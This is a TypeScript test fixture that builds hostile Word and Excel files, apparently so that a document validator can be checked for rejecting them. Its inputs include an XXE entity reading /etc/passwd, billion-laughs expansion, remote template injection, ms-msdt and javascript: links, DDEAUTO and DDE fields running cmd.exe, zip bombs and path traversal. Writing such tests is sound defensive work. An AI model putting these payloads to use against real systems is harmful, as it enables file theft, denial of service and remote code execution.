import { aDocx, aPackedZip, aXlsx, type PackedPart } from '@/tests/support/packedZip'

import { OFFICE_RELATION, relation, relations } from './relations'
import { type Sample, sample } from './sample'

const ENTITY =
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
const LAUGHS = `<!DOCTYPE l [<!ENTITY a "ha">${Array.from(
  { length: 9 },
  (_, level) => `<!ENTITY l${level} "&a;&a;&a;&a;&a;">`,
).join('')}]><l>&l8;</l>`
const OLE = Buffer.from('d0cf11e0a1b11ae1', 'hex')

const related = (content: string): Uint8Array =>
  aDocx([{ name: 'word/_rels/document.xml.rels', content }])
const relating = (...args: Parameters<typeof relation>): Uint8Array =>
  related(relations(relation(...args)))

/** A document in which some bytes have been written over. */
const patched = (bytes: Uint8Array, at: (copy: Buffer) => number, value: string): Uint8Array => {
  const copy = Buffer.from(bytes)
  copy.write(value, at(copy), 'latin1')
  return copy
}

const declared: [string, Uint8Array][] = [
  ['an entity that reads a file', aDocx([], ENTITY)],
  ['a billion laughs', aDocx([], LAUGHS)],
  ['an entity in UTF-16', aDocx([{ name: 'word/a.xml', content: Buffer.from(ENTITY, 'utf16le') }])],
  ['an entity in UTF-7', aDocx([], '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x>')],
  [
    'an entity in a part of another name',
    aDocx([{ name: 'customXml/item1.bin', content: ENTITY }]),
  ],
  ['an entity behind a long comment', aDocx([], `<!--${'x'.repeat(200_000)}-->${ENTITY}`)],
]

const outside: [string, Uint8Array][] = [
  [
    'a template of another computer',
    relating('attachedTemplate', 'file:///\\\\192.0.2.1\\a\\b.dotm'),
  ],
  [
    'a template beside the document, its mode written in references',
    relating('attachedTemplate', 'a.dotm', ' TargetMode="&#69;xter&#x6e;al"'),
  ],
  [
    'a template from an address without a mode',
    relating('attachedTemplate', 'https://192.0.2.1/a.dotm', ''),
  ],
  [
    'a template in single quotes, in a namespace of its own',
    related(
      `<r:Relationships xmlns:r="x"><r:Relationship TargetMode='External' Id='a' Target='\\\\192.0.2.1\\a.dotm' Type='${OFFICE_RELATION}/attachedTemplate'/></r:Relationships>`,
    ),
  ],
  [
    'an object from an address',
    relating('oleObject', 'mhtml:http://192.0.2.1/a.html!x-usc:http://192.0.2.1/a.html'),
  ],
  [
    'a template from an address that calls itself a link within a value',
    related(
      `<Relationships><Relationship Id="a" Type="${OFFICE_RELATION}/attachedTemplate" Target="http://192.0.2.1/a.dotm" TargetMode="External" xmlns:x=' Type="a/hyperlink"'/></Relationships>`,
    ),
  ],
  ['a picture from an address', relating('image', 'http://192.0.2.1/pixel.png')],
  ['a frame from an address', relating('frame', 'http://192.0.2.1/frame.htm')],
  ['a web page as a part', relating('aFChunk', 'a.xml', '')],
  ['a link that runs a script on a click', relating('hyperlink', 'javascript:alert(1)')],
  ['a link that starts a tool on a click', relating('hyperlink', 'ms-msdt:/id PCWDiagnostic')],
]

const inside: [string, readonly PackedPart[]][] = [
  ['macros', [{ name: 'word/vbaProject.bin', content: OLE }]],
  ['macros under another name', [{ name: 'word/settings.bin', content: OLE }]],
  [
    'an embedded object of the old Office',
    [{ name: 'word/embeddings/oleObject1.bin', content: OLE }],
  ],
  ['ActiveX', [{ name: 'word/activeX/activeX1.xml', content: '<a/>' }]],
  ['a program', [{ name: 'word/embeddings/a.exe', content: 'MZ' }]],
  ['a program called picture', [{ name: 'word/media/image1.png', content: 'MZ\x90' }]],
  ['an archive', [{ name: 'word/a.zip', content: 'PK\x03\x04' }]],
  ['an archive called picture', [{ name: 'word/media/image1.png', content: aDocx() }]],
  [
    'an archive called workbook, in a place without charts',
    [{ name: 'word/media/a.xlsx', content: aXlsx() }],
  ],
  [
    'a workbook of a chart with macros',
    [
      {
        name: 'word/embeddings/a.xlsx',
        content: aXlsx([{ name: 'xl/vbaProject.bin', content: OLE }]),
      },
    ],
  ],
  [
    'a workbook of a chart with a further one',
    [
      {
        name: 'word/embeddings/a.xlsx',
        content: aXlsx([{ name: 'xl/embeddings/b.xlsx', content: aXlsx() }]),
      },
    ],
  ],
  [
    'a field that calls a program',
    [
      {
        name: 'word/footer1.xml',
        content:
          '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\cmd.exe "/k"</w:instrText>',
      },
    ],
  ],
  [
    'a field that calls a program, its word in references and CDATA',
    [
      {
        name: 'word/footer1.xml',
        content: '<é:instrText>&#68;<![CDATA[DEAUTO]]> c:\\\\a.exe</é:instrText>',
      },
    ],
  ],
  [
    'an entity in what only is called a picture',
    [{ name: 'word/media/image1.png', content: ENTITY }],
  ],
  ['a way out of the folder', [{ name: '../../x.xml', content: 'x' }]],
  ['a part twice', [{ name: 'Word/Document.xml', content: '<a/>' }]],
  [
    'a thousand parts',
    Array.from({ length: 1_001 }, (_, number) => ({
      name: `word/p${number}.xml`,
      content: '<a/>',
    })),
  ],
  [
    'a bomb that lies about its size',
    [{ name: 'word/a.xml', content: Buffer.alloc(100_000_000), claims: 90_000 }],
  ],
]

/** The main part claims the head and the bytes of the part behind it, too. */
function overlapping(): Uint8Array {
  const bytes = Buffer.from(aDocx([{ name: 'word/a.xml', content: '<a/>' }]))
  const name = 'word/document.xml'
  for (const at of [bytes.indexOf(name) - 12, bytes.lastIndexOf(name) - 26])
    bytes.writeUInt32LE(bytes.readUInt32LE(at) + 40, at)
  return bytes
}

const localName = (copy: Buffer): number => copy.indexOf('word/document.xml')
const archives: [string, Uint8Array][] = [
  ['a bomb that says its size', aDocx([], 'x'.repeat(30_000_000))],
  ['a part with two names', patched(aDocx(), localName, 'word/dokument.xml')],
  ['a part with two sizes', patched(aDocx(), (copy) => localName(copy) - 8, '\x01\x00\x00\x00')],
  ['parts that lie over each other', overlapping()],
  [
    'bytes between two parts',
    aDocx([{ name: 'word/a.xml', content: '<a/>', after: 'hidden'.repeat(20) }]),
  ],
  ['encrypted parts', aDocx([{ name: 'word/a.xml', content: '<a/>', flags: 1 }])],
  ['a document locked with a password', Buffer.concat([OLE, Buffer.alloc(4_096)])],
  ['a workbook called document', aXlsx()],
  ['an archive called document', aPackedZip([{ name: 'a.txt', content: 'x' }])],
  ['a cut document', aDocx().slice(0, -5)],
  [
    'types of a document with macros',
    aPackedZip([
      {
        name: '[Content_Types].xml',
        content:
          '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      },
      { name: 'word/document.xml', content: '<w:document/>' },
    ]),
  ],
]

const workbooks: [string, Uint8Array][] = [
  [
    'a workbook that calls a program',
    aXlsx([
      {
        name: 'xl/externalLinks/externalLink1.xml',
        content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      },
    ]),
  ],
  [
    'a workbook that reads another',
    aXlsx([
      {
        name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
        content: relations(relation('externalLinkPath', 'file:///\\\\192.0.2.1\\a.xlsx')),
      },
    ]),
  ],
  [
    'a workbook with macros of the old kind',
    aXlsx([{ name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }]),
  ],
  ['a billion laughs in a workbook', aXlsx([{ name: 'xl/sharedStrings.xml', content: LAUGHS }])],
]

/** Documents and workbooks that are refused. */
export const hostileOffice = (): Sample[] => [
  ...[...declared, ...outside, ...archives].map(([what, bytes]) => sample(what, 'docx', bytes)),
  ...inside.map(([what, parts]) => sample(`${what} in a document`, 'docx', aDocx(parts))),
  ...workbooks.map(([what, bytes]) => sample(what, 'xlsx', bytes)),
]
